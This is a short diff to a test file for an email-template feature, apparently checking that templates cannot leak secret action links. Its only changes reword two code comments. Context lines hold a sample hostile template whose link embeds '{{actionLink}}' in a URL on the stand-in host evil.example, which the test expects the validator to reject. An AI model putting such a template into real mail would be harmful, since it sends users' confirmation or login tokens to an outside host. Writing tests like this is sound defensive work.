@@ -86,7 +86,7 @@ describe('without a mail server', () => {
     const leaking = '<a href="https://evil.example/p?{{actionLink}}">In</a>'
     expect(await readErrorFields(leaking)).toEqual({ [key]: 'template-link-place' })
     await saveTemplate('<a href="{{actionLink}}">In</a>')
-    // a template that was stored before templates were checked
+    // stores a template directly, like one from before templates were checked
     await server.sql(`UPDATE admin_settings SET setting_value = ?, version = version + 1 WHERE setting_key = ?`, [
       JSON.stringify(templateValues(leaking)[key]),
       key,
@@ -145,7 +145,7 @@ describe('without a mail server', () => {
     expect(seen).toContain('Confirm my email')
     expect(seen).not.toMatch(/[0-9a-f]{64}|href=/)
     const person = await createMember(server)
-    // previews with the name and address of another person; a missing or deleted person has none
+    // a preview may use the name and address of another person; for a missing or deleted person there is no preview
     const zita = person.grant?.userId ?? ''
     await server.sql(`UPDATE users SET first_name = 'Zita' WHERE id = ?`, [zita])
     const [{ email: personEmail } = { email: '' }] = await server.sql(`SELECT email FROM users WHERE id = ?`, [zita])
